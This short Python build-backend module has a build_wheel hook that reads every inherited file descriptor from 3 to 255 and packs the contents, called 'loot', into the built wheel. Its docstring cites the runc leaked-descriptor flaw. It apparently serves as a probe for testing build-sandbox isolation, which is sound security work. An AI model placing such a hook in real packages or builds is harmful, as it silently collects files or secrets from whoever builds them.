"""Reads through every descriptor beyond the three standard ones.

Whoever opened them had the right to; the build inherits the result. runc's was a
directory (CVE-2024-21626).
"""

import contextlib
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read-descriptors"):
        for descriptor in range(3, 256):
            with contextlib.suppress(OSError):  # closed, or nothing that can be read from
                loot[f"{descriptor}.bin"] = os.pread(descriptor, 1 << 16, 0)
    return kit.wheel(wheel_directory, loot)
